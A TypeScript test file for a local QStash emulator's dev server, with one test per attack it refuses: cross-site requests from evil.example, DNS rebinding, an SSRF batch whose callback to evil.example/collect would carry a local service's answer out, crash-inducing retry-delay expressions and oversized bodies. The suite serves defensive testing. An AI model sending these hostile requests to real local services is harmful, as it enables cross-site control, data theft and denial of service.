// The attack catalogue of `qjobs dev` (issue 9): a server on the developer's laptop that any web page
// they visit could drive, sign with, crash or grow without bound. One test per attack, named after it.
import { DEV_CREDENTIALS } from "@qjobs/runtime";
import { describe, expect, it, vi } from "vitest";
import { rawRequest as raw } from "../../../testkit/raw-request.js";
import type { DeliveryResponse } from "../../local/src/qstash/deliver.js";
import { ManualClock } from "../../local/src/time.js";
import { startLocal } from "./dev-support.js";
import { runCli } from "./support.js";

const tokenQuery = `qstash_token=${encodeURIComponent(DEV_CREDENTIALS.token)}`;

describe("attack: a web page drives the local QStash", () => {
  it("is refused: a cross-site text/plain POST with ?qstash_token= (no preflight needed)", async () => {
    const { server, engine, destination } = await startLocal();
    const answer = await raw(server.port, {
      path: `/v2/publish/${destination.url}/hook?${tokenQuery}`,
      headers: {
        host: `127.0.0.1:${server.port}`,
        origin: "https://evil.example",
        "content-type": "text/plain",
        "sec-fetch-site": "cross-site",
      },
      body: "{}",
    });
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.body).error).toMatch(/^Forbidden: Origin "https:\/\/evil\.example" is not this server's/);
    expect(engine.messages.size).toBe(0);
  });

  it("is refused: a page on another port of localhost, which is same-site with the server", async () => {
    const { server, engine, destination } = await startLocal();
    const answer = await raw(server.port, {
      path: `/v2/publish/${destination.url}/hook?${tokenQuery}`,
      headers: { host: `localhost:${server.port}`, origin: "http://localhost:3000", "sec-fetch-site": "same-site" },
      body: "{}",
    });
    expect(answer.status).toBe(403);
    expect(engine.messages.size).toBe(0);
  });

  it("is refused: a no-cors GET from another site reading the keys (Sec-Fetch-Site: cross-site, no Origin)", async () => {
    const { server } = await startLocal();
    const answer = await raw(server.port, {
      method: "GET",
      path: `/v2/keys?${tokenQuery}`,
      headers: { host: `127.0.0.1:${server.port}`, "sec-fetch-site": "cross-site" },
    });
    expect(answer.status).toBe(403);
    expect(answer.body).not.toContain(DEV_CREDENTIALS.currentSigningKey);
  });

  it("is refused: DNS rebinding (Host: rebind.evil.example resolving to 127.0.0.1)", async () => {
    const { server } = await startLocal();
    const answer = await raw(server.port, {
      method: "GET",
      path: "/v2/keys",
      headers: { host: `rebind.evil.example:${server.port}`, authorization: `Bearer ${DEV_CREDENTIALS.token}` },
    });
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.body).error).toMatch(/Host "rebind\.evil\.example:\d+" is not a loopback address/);
  });

  it("is refused: the SSRF chain, a batch entry with Upstash-Method: GET and a callback that would carry a local service's answer away", async () => {
    const { server, engine, destination } = await startLocal();
    const batch = [
      {
        destination: `${destination.url}/local-only-admin`,
        headers: { "Upstash-Method": "GET", "Upstash-Callback": "https://evil.example/collect" },
      },
    ];
    const answer = await raw(server.port, {
      path: `/v2/batch?${tokenQuery}`,
      headers: { host: `127.0.0.1:${server.port}`, origin: "https://evil.example", "content-type": "text/plain" },
      body: JSON.stringify(batch),
    });
    expect(answer.status).toBe(403);
    expect(engine.messages.size).toBe(0);
    expect(destination.deliveries).toEqual([]);
  });

  it("still serves what may use it: the SDK and scripts (no Origin), and the server's own pages (same origin)", async () => {
    const { server, client, destination } = await startLocal();
    await client.publishJSON({ url: `${destination.url}/ok`, body: {} });
    for (const host of [`127.0.0.1:${server.port}`, `localhost:${server.port}`, `[::1]:${server.port}`]) {
      const answer = await raw(server.port, {
        method: "GET",
        path: "/v2/keys",
        headers: {
          host,
          origin: `http://${host}`,
          "sec-fetch-site": "same-origin",
          authorization: `Bearer ${DEV_CREDENTIALS.token}`,
        },
      });
      expect(answer.status, host).toBe(200);
    }
    await destination.waitFor(1);
  });
});

describe("attack: the private signing keys behind the public token", () => {
  it("is refused at start: --current-signing-key and --next-signing-key without --token", async () => {
    const run = await runCli([
      "dev",
      "--port",
      "0",
      "--current-signing-key",
      "sig_private_1",
      "--next-signing-key",
      "sig_private_2",
    ]);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/need --token too/);
  });
});

describe("attack: a retry-delay expression that kills the server", () => {
  for (const expression of ["__proto__(1)", "valueOf(1)", "constructor(1)", "toString(retried)", "hasOwnProperty(1)"]) {
    it(`is a 400 at publish, never a crash at retry time: ${expression}`, async () => {
      const { client, destination, engine } = await startLocal();
      await expect(
        client.publish({ url: `${destination.url}/x`, body: "{}", retryDelay: expression }),
      ).rejects.toMatchObject({ status: 400 });
      expect(engine.messages.size).toBe(0);
      // Still alive and delivering.
      await client.publish({ url: `${destination.url}/after`, body: "{}" });
      await destination.waitFor(1);
    });
  }

  it("fails only that message when settling an attempt throws, and keeps the process and the other messages alive", async () => {
    const clock = new ManualClock();
    let calls = 0;
    const hostile = async (): Promise<DeliveryResponse> => {
      calls++;
      if (calls > 1) return { status: 200, headers: {}, body: Buffer.alloc(0), durationMs: 1 };
      return {
        status: 500,
        get headers(): Record<string, string> {
          throw new Error("a hostile response");
        },
        body: Buffer.alloc(0),
        durationMs: 1,
      };
    };
    const { client, engine, destination } = await startLocal({ clock, engine: { deliver: hostile } });
    const first = await client.publish({ url: `${destination.url}/boom`, body: "{}" });
    await engine.idle();
    const [entry] = [...engine.dlq.values()];
    expect(entry?.message.messageId).toBe(first.messageId);
    expect(entry?.response.error).toMatch(/could not settle the attempt: Error: a hostile response/);
    await client.publish({ url: `${destination.url}/fine`, body: "{}" });
    await engine.idle();
    expect(calls).toBe(2);
  });

  it("keeps delivering when the attempt reporter throws", async () => {
    const error = vi.spyOn(console, "error").mockImplementation(() => undefined);
    try {
      const { client, engine, destination } = await startLocal({
        engine: {
          onAttempt: () => {
            throw new Error("printer on fire");
          },
        },
      });
      await client.publish({ url: `${destination.url}/a`, body: "{}" });
      await client.publish({ url: `${destination.url}/b`, body: "{}" });
      await destination.waitFor(2);
      await engine.idle();
      expect(engine.dlq.size).toBe(0);
      expect(error).toHaveBeenCalledWith("qjobs dev: could not report an attempt:", expect.any(Error));
    } finally {
      error.mockRestore();
    }
  });
});

describe("attack: unbounded memory", () => {
  it("is refused with 413: a body over the cap, by its Content-Length, unread", async () => {
    const { server, engine } = await startLocal({ server: { maxBodyBytes: 1024 * 1024 } });
    const answer = await raw(server.port, {
      path: `/v2/publish/http://127.0.0.1:9/x?${tokenQuery}`,
      headers: { host: `127.0.0.1:${server.port}`, "content-length": String(20 * 1024 * 1024) },
    });
    expect(answer.status).toBe(413);
    expect(engine.messages.size).toBe(0);
  });

  it("is refused with 413: a chunked body that grows past the cap", async () => {
    const { server, engine } = await startLocal({ server: { maxBodyBytes: 64 * 1024 } });
    const answer = await raw(server.port, {
      path: `/v2/publish/http://127.0.0.1:9/x?${tokenQuery}`,
      headers: { host: `127.0.0.1:${server.port}`, "transfer-encoding": "chunked" },
      body: Buffer.alloc(256 * 1024),
    });
    expect(answer.status).toBe(413);
    expect(engine.messages.size).toBe(0);
  });

  it("keeps the dead-letter queue within its bound, dropping the oldest entries", async () => {
    const { client, engine, destination } = await startLocal({
      respond: (_delivery, response) => response.writeHead(489, { "upstash-nonretryable-error": "true" }).end("no"),
      engine: { maxDlq: 3 },
    });
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) {
      // One at a time, so that the order they fail in (which decides "oldest") is the order they were sent in.
      ids.push((await client.publish({ url: `${destination.url}/fail`, body: String(i) })).messageId);
      await engine.idle();
    }
    expect(destination.deliveries).toHaveLength(5);
    expect([...engine.dlq.values()].map((entry) => entry.message.messageId)).toEqual(ids.slice(2));
  });

  it("keeps the dead-letter queue within its byte bound", async () => {
    const { client, engine, destination } = await startLocal({
      respond: (_delivery, response) => response.writeHead(489, { "upstash-nonretryable-error": "true" }).end(),
      engine: { maxDlqBytes: 250 * 1024 },
    });
    for (let i = 0; i < 4; i++) await client.publish({ url: `${destination.url}/fail`, body: "x".repeat(100 * 1024) });
    await destination.waitFor(4);
    await engine.idle();
    expect(engine.dlq.size).toBe(2);
  });

  it("cuts the response bodies it keeps in the event log", async () => {
    const { client, engine, destination } = await startLocal({
      respond: (_delivery, response) =>
        response.writeHead(489, { "upstash-nonretryable-error": "true" }).end("e".repeat(200 * 1024)),
    });
    await client.publish({ url: `${destination.url}/fail`, body: "{}" });
    await destination.waitFor(1);
    await engine.idle();
    const failed = engine.events.find((event) => event.state === "FAILED");
    expect(failed?.responseBody?.length).toBe(4096);
  });
});
